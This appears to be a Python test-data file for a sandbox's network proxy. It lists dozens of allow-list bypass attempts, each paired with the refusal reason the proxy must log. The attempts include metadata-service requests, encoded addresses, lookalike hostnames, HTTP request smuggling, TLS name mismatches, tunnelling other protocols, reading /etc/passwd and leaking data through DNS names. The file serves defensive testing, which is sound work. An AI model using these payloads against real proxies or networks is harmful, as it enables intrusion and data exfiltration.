"""Ways around the allow-list, as a hostile job with the source in hand would try them. Data; the tests play them.

A body is Python inside the sandbox. `raw(bytes)` sends bytes to the proxy and returns the answer; `get(url)` asks the
proxy for a URL exactly as it is written; `tunnel(authority, bytes)` opens a CONNECT and sends bytes into it; `A`, `T`
and `B` are the ports of the allowed server, the allowed TLS server and the forbidden one; `HELLO` has TLS greetings.
"""

from collections.abc import Callable, Iterator
from contextlib import contextmanager
from dataclasses import dataclass
from typing import Any
from unittest import mock

from gametape.sandbox import network_policy, proxy_connection, proxy_target
from gametape.sandbox.network_policy import HostRule, NetworkAccess
from tests.sandbox.network.greetings import extension, greeting, name_extension, real_greeting

PRELUDE = """
import json, os, re, socket, ssl, struct, sys, time, urllib.error, urllib.request
G = json.loads(sys.argv[1])
A, T, B = G["A"], G["T"], G["B"]
HELLO = {name: bytes.fromhex(text) for name, text in G["greetings"].items()}

def read_all(connection):
    answer = b""
    while True:
        try:
            piece = connection.recv(65536)
        except OSError:
            return answer
        if not piece:
            return answer
        answer += piece

def raw(data):
    with socket.create_connection(("127.0.0.1", 3128)) as connection:
        connection.sendall(data)
        connection.shutdown(socket.SHUT_WR)
        return read_all(connection)

def get(url, *headers, host="allowed.test:%d" % A, method="GET", body=b""):
    lines = [f"{method} {url} HTTP/1.1", *([f"Host: {host}"] if host else []), *headers, "", ""]
    return raw("\\r\\n".join(lines).encode("utf-8") + body)

def tunnel(authority, data):
    with socket.create_connection(("127.0.0.1", 3128)) as connection:
        connection.sendall(f"CONNECT {authority} HTTP/1.1\\r\\nHost: {authority}\\r\\n\\r\\n".encode("latin-1"))
        head = connection.recv(65536)
        if b" 200 " not in head[:20]:
            return head
        try:
            connection.sendall(data)
            connection.shutdown(socket.SHUT_WR)
        except OSError:
            pass
        return head + read_all(connection)

def show(answer):
    sys.stdout.write(answer.decode("latin-1"))
"""

GREETINGS = {
    "tls.test": real_greeting("tls.test"),
    "evil.test": real_greeting("evil.test"),
    "none": real_greeting(None),
    "two": greeting(name_extension(b"tls.test", b"evil.test")),
    "twice": greeting(name_extension(b"tls.test"), name_extension(b"evil.test")),
    "encrypted": greeting(name_extension(b"tls.test"), extension(0xFE0D, bytes(40))),
    "cut": greeting(name_extension(b"evil.test"), records=9),
}


@dataclass(frozen=True)
class Attack:
    """One way around. `reason` is what the proxy must have recorded; None where it must never be asked."""

    name: str
    body: str
    reason: str | None
    control: str | None = None
    """The measure without which it succeeds; see `CONTROLS`."""
    access: tuple[tuple[str, Any], ...] = ()


def _fetch(url: str) -> str:
    return f"show(get(f{url!r}))"


def _post(rest: str) -> str:
    return f"show(get(f'http://allowed.test:{{A}}/', {rest}, method='POST'))"


def _unfinished(beginning: str) -> str:
    connection = "connection = socket.create_connection(('127.0.0.1', 3128))"
    return f"{connection}\nconnection.sendall({beginning})\nshow(read_all(connection))"


ATTACKS = (
    # past the proxy
    Attack("connect to the host's loopback", "show(read_all(socket.create_connection(('127.0.0.1', B))))", None),
    Attack("connect over IPv6", "show(read_all(socket.create_connection(('::1', B))))", None),
    Attack("connect to a public address", "socket.create_connection(('192.0.2.1', 80), timeout=600)", None),
    Attack("ask a name server", "socket.socket(type=socket.SOCK_DGRAM).sendto(b'x' * 20, ('192.0.2.53', 53))", None),
    Attack("look a name up", "print(socket.getaddrinfo('leak.evil.test', 80))", None),
    Attack("a raw socket", "socket.socket(socket.AF_INET, socket.SOCK_RAW, 1)", None),
    Attack("a packet socket", "socket.socket(socket.AF_PACKET, socket.SOCK_RAW)", None),
    Attack("a vsock socket", "socket.socket(40, socket.SOCK_STREAM).connect((2, B))", None),
    Attack(
        "no proxy in the environment",
        "import subprocess\nsubprocess.run(['curl', '-s', '--noproxy', '*', f'http://127.0.0.1:{B}/'])",
        None,
    ),
    # the wrong host
    Attack("http to another host", _fetch("http://evil.test:{B}/"), "host not allowed", "hosts"),
    Attack(
        "CONNECT to another host", "show(tunnel(f'evil.test:{B}', HELLO['evil.test']))", "host not allowed", "hosts"
    ),
    Attack("CONNECT to an address", "show(tunnel(f'127.0.0.1:{B}', HELLO['none']))", "port not allowed", "hosts"),
    Attack("CONNECT to localhost", "show(tunnel(f'localhost:{B}', HELLO['none']))", "host not allowed"),
    Attack("the metadata service", _fetch("http://169.254.169.254/latest/meta-data/"), "host not allowed"),
    Attack("an address in one number", _fetch("http://2130706433:{B}/"), "bad host name"),
    Attack("an address in hexadecimal", _fetch("http://0x7f000001:{B}/"), "bad host name"),
    Attack("an address in octal", _fetch("http://0177.0.0.1:{B}/"), "bad host name"),
    Attack("a short address", _fetch("http://127.1:{B}/"), "bad host name"),
    Attack("a mapped address", _fetch("http://[::ffff:127.0.0.1]:{A}/"), "host not allowed"),
    Attack("an address with a zone", _fetch("http://[::1%25lo]:{B}/"), "bad host name"),
    Attack("a name that ends alike", _fetch("http://evil-wild.test:{A}/"), "host not allowed", "suffix"),
    Attack("a name that begins alike", _fetch("http://allowed.test.evil.test:{A}/"), "host not allowed"),
    Attack("the name above a wildcard", _fetch("http://wild.test:{A}/"), "host not allowed"),
    Attack("a trailing dot", _fetch("http://allowed.test.:{A}/"), "bad host name"),
    Attack("letters that look alike", _fetch("http://\u0430llowed.test:{A}/"), "bad request"),
    Attack("letters that look alike, encoded", _fetch("http://xn--llowed-2fg.test:{A}/"), "host not allowed"),
    Attack("a NUL in the name", _fetch("http://evil.test%00.wild.test:{B}/"), "bad host name"),
    Attack("a user in front", _fetch("http://allowed.test:{A}@127.0.0.1:{B}/"), "bad request"),
    Attack("a backslash", _fetch("http://127.0.0.1:{B}\\@allowed.test:{A}/"), "bad request"),
    Attack("a fragment", _fetch("http://127.0.0.1:{B}#allowed.test:{A}/"), "bad request"),
    Attack("another port", _fetch("http://allowed.test:{B}/"), "port not allowed", "hosts"),
    Attack("a port that wraps", _fetch("http://allowed.test:{A + 65536}/"), "bad host name"),
    Attack("another scheme", _fetch("file:///etc/passwd"), "bad request"),
    Attack("TLS made by the proxy", _fetch("https://evil.test:{B}/"), "bad request"),
    Attack("no host in the target", "show(get('/', host=f'127.0.0.1:{B}'))", "bad request"),
    Attack(
        "a name turned to this machine",
        "show(get(f'http://rebind.test:{B}/', host=f'rebind.test:{B}'))",
        "address not public",
        "addresses",
    ),
    Attack(
        "a redirect",
        "print(urllib.request.urlopen(f'http://allowed.test:{A}/redirect').read())",
        "port not allowed",
        "hosts",
    ),
    Attack("data in a name", "show(get('http://s3cr3t-data.evil.test/'))", "host not allowed"),
    # two readings of one request
    Attack(
        "another Host header",
        "show(get(f'http://allowed.test:{A}/', host='evil.test'))",
        "host header differs",
        "host header",
    ),
    Attack("two Host headers", "show(get(f'http://allowed.test:{A}/', 'Host: evil.test'))", "bad request"),
    Attack(
        "two lengths",
        _post("'Content-Length: 5', 'Content-Length: 6', body=b'GET /x'"),
        "bad request",
    ),
    Attack(
        "a length and chunks",
        _post(
            "'Content-Length: 4', 'Transfer-Encoding: chunked', body=b'0\\r\\n\\r\\nGET /smuggled HTTP/1.1\\r\\n\\r\\n'"
        ),
        "bad request",
    ),
    Attack(
        "chunks by another name",
        "show(get(f'http://allowed.test:{A}/', 'Transfer-Encoding: xchunked', method='POST', body=b'0\\r\\n\\r\\n'))",
        "bad request",
    ),
    Attack(
        "a folded header",
        "show(get(f'http://allowed.test:{A}/', 'X: a', ' Host: evil.test', 'Transfer-Encoding:\\x0bchunked'))",
        "bad request",
    ),
    Attack(
        "a line break in the path",
        "show(raw(f'GET http://allowed.test:{A}/\\r\\nHost: evil.test\\r\\n\\r\\n HTTP/1.1\\r\\n\\r\\n'.encode()))",
        "bad request",
    ),
    Attack("a header of 100 KB", "show(get(f'http://allowed.test:{A}/', 'X: ' + 'x' * 100_000))", "bad request"),
    Attack(
        "a websocket",
        "show(get(f'http://allowed.test:{A}/', 'Connection: Upgrade', 'Upgrade: websocket'))",
        "upgrade not allowed",
    ),
    Attack("HTTP/2 from the start", "show(raw(b'PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n'))", "bad request"),
    Attack(
        "SOCKS",
        "show(raw(b'\\x05\\x01\\x00\\x05\\x01\\x00\\x01\\x7f\\x00\\x00\\x01' + struct.pack('>H', B)))",
        "bad request",
    ),
    # a tunnel to another host than it says
    Attack("another TLS name", "show(tunnel(f'tls.test:{T}', HELLO['evil.test']))", "TLS name differs", "tls name"),
    Attack(
        "another TLS name in many records",
        "show(tunnel(f'tls.test:{T}', HELLO['cut']))",
        "TLS name differs",
        "tls name",
    ),
    Attack("no TLS name", "show(tunnel(f'tls.test:{T}', HELLO['none']))", "TLS name differs", "tls name"),
    Attack("two TLS names", "show(tunnel(f'tls.test:{T}', HELLO['two']))", "two TLS names", "tls name"),
    Attack("two lists of TLS names", "show(tunnel(f'tls.test:{T}', HELLO['twice']))", "two TLS names", "tls name"),
    Attack(
        "an encrypted TLS name", "show(tunnel(f'tls.test:{T}', HELLO['encrypted']))", "encrypted TLS name", "tls name"
    ),
    Attack(
        "plain http in a tunnel",
        "show(tunnel(f'allowed.test:{A}', b'GET / HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n'))",
        "not TLS",
        "tls name",
    ),
    Attack(
        "another protocol in a tunnel",
        "show(tunnel(f'allowed.test:{A}', b'SSH-2.0-hello\\r\\n'))",
        "not TLS",
        "tls name",
    ),
    Attack(
        "bytes sent with the CONNECT",
        "inside = 'GET / HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n'\n"
        "show(raw(f'CONNECT allowed.test:{A} HTTP/1.1\\r\\nHost: x.test\\r\\n\\r\\n{inside}'.encode()))",
        "not TLS",
        "tls name",
    ),
    Attack("a CONNECT without a port", "show(tunnel('tls.test', HELLO['tls.test']))", "bad host name"),
    # limits of the policy
    Attack(
        "another method",
        "show(get(f'http://allowed.test:{A}/', 'Content-Length: 0', method='DELETE'))",
        "method not allowed",
        "methods",
        (("methods", ("GET", "HEAD")),),
    ),
    Attack(
        "more bytes than allowed",
        "show(get(f'http://allowed.test:{A}/', 'Content-Length: 2000000', method='POST', body=b'x' * 2_000_000))",
        "limit on bytes sent",
        "bytes",
        (("sent_mb", 1),),
    ),
    Attack(
        "a request that never ends",
        _unfinished("b'GET http://allowed.test/ HTTP/1.1\\r\\nX: '"),
        "limit on time",
        None,
        (("head_seconds", 0.2),),
    ),
    Attack(
        "a TLS greeting that never ends",
        _unfinished("f'CONNECT tls.test:{T} HTTP/1.1\\r\\nHost: x.test\\r\\n\\r\\n'.encode() + HELLO['tls.test'][:50]"),
        "limit on time",
        None,
        (("head_seconds", 0.2),),
    ),
)
"""`reason` of the last two is what ends them, and the job sees its connection closed."""


def _anything(*_arguments: Any) -> None:
    return None


@contextmanager
def _replaced(*places: tuple[Any, str, Any]) -> Iterator[None]:
    patches = [mock.patch.object(*place) for place in places]
    for patch in patches:
        patch.start()
    try:
        yield
    finally:
        for patch in patches:
            patch.stop()


def _trusting(stream: bytes) -> tuple[bool, str]:
    return bool(stream), "tls.test" if stream[:1] == b"\x16" else "allowed.test"


def _ends_alike(rule: HostRule, host: Any) -> bool:
    return str(host).endswith(str(rule.host)) if rule.below else host == rule.host


CONTROLS: dict[str, Callable[[], Any]] = {
    "hosts": lambda: _replaced(
        (NetworkAccess, "check_target", _anything),
        (network_policy, "is_public", lambda _address: True),
        (NetworkAccess, "names_address", lambda *_: True),
        (proxy_connection, "server_name", lambda _stream: (True, "evil.test")),
        (proxy_target, "refuse_other_host", _anything),
    ),
    "addresses": lambda: _replaced(
        (network_policy, "is_public", lambda _address: True), (NetworkAccess, "names_address", lambda *_: True)
    ),
    "suffix": lambda: _replaced(
        (HostRule, "matches_host", _ends_alike), (proxy_target, "refuse_other_host", _anything)
    ),
    "host header": lambda: _replaced(
        (proxy_target, "refuse_other_host", _anything),
        (proxy_connection, "request_headers", lambda headers, _target: proxy_target.response_headers(headers)),
    ),
    "tls name": lambda: _replaced(
        (
            proxy_connection,
            "server_name",
            _trusting,
        )
    ),
    "methods": lambda: _replaced((NetworkAccess, "check_method", _anything)),
    "bytes": lambda: _replaced((proxy_connection.TrafficCounter, "sent", _anything)),
}
"""What is taken away to show that it is what stopped the attack."""
